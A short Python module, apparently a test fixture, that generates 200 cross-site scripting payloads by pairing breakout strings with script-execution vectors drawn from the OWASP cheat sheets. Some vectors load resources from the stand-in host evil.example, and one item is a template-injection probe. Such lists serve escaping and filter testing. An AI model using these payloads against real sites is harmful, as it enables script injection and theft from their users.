"""Texts that run a script in a page that does not escape them: 200 combinations of a way out and a way to run.

The ways are those of the OWASP Cross Site Scripting Prevention and Filter Evasion Cheat Sheets.
"""

_RUN = "alert(document.domain)"
_WAYS_OUT = (
    "",
    '">',
    "'>",
    "</script>",
    "</title></textarea></style>",
    "--></option></select>",
    "\u2028\u2029]]>",
    "\x00",
)
_WAYS_TO_RUN = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT >",
    f"<img src=x onerror={_RUN}>",
    f"<img/src='x'/onerror='{_RUN}'>",
    f'<svg onload="{_RUN}">',
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<object data=javascript:{_RUN}></object>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    f'" autofocus onfocus={_RUN} x="',
    f"' autofocus onfocus={_RUN} x='",
    f"` onmouseover={_RUN} autofocus onfocus={_RUN} x=`",
    f"javascript:{_RUN}",
    f"&lt;img src=x onerror={_RUN}&gt;&#60;script&#62;{_RUN}&#60;/script&#62;",
    "{{ ''.__class__.__mro__ }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    f"<a href='javascript:{_RUN}' autofocus onfocus={_RUN}>x</a>",
)
PAYLOADS = tuple(out + run for out in _WAYS_OUT for run in _WAYS_TO_RUN)
assert len(PAYLOADS) == 200
